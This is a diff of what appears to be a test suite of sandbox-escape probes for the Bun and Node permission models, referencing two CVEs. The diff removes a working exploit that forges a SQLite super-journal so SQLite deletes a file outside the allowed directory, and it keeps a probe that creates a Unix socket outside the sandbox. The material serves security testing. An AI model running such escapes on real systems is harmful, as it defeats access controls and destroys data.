@@ -12,20 +12,6 @@ const UNIX = "CVE-2026-21636, CVE-2026-21711: Unix sockets beside the rules of t
 const wait = "await sleep(600); process.exit(0)";
 const ended = 'await new Promise((done) => { worker.on("error", done); worker.on("exit", done); })';
 
-/** A database whose journal says that it belongs to the file outside: SQLite removes such a file after it has rolled back. */
-const SUPER_JOURNAL = `
-  const { DatabaseSync } = require("node:sqlite");
-  const db = new DatabaseSync(work + "/a.db");
-  db.exec("pragma journal_mode = delete; pragma cache_size = 1; pragma cache_spill = 1; create table t (a); insert into t values (zeroblob(200000)); begin; update t set a = randomblob(200000)");
-  fs.copyFileSync(work + "/a.db", work + "/b.db");
-  const name = Buffer.from(outside + "/target"), magic = Buffer.from("d9d505f920a163d7", "hex"), end = Buffer.alloc(16);
-  const journal = fs.readFileSync(work + "/a.db-journal"); db.close();
-  const page = journal.readUInt32BE(24), sector = journal.readUInt32BE(20);
-  const lock = Buffer.alloc(4); lock.writeUInt32BE(Math.floor(0x40000000 / page) + 1);
-  end.writeUInt32BE(name.length, 0); end.writeUInt32BE(name.reduce((sum, byte) => (sum + (byte << 24 >> 24)) >>> 0, 0), 4); magic.copy(end, 8);
-  fs.writeFileSync(work + "/b.db-journal", Buffer.concat([journal, Buffer.alloc((sector - (journal.length % sector)) % sector), lock, name, end]));
-  try { new DatabaseSync(work + "/b.db").prepare("select count(*) from t").all(); } catch (error) { say(error.message); }`;
-
 export const services: Escape[] = [
   escape(
     "Bun.SQL",
@@ -188,7 +174,6 @@ export const services: Escape[] = [
     'Bun.serve({ unix: outside + "/new.sock", fetch: () => new Response("") }); await sleep(100); process.kill(process.pid, "SIGKILL")',
     { home: "bun" },
   ),
-  escape("a super-journal", "SQLite removes the file that a journal names", "change", SUPER_JOURNAL),
   escape(
     "file systems of SQLite",
     STORES,
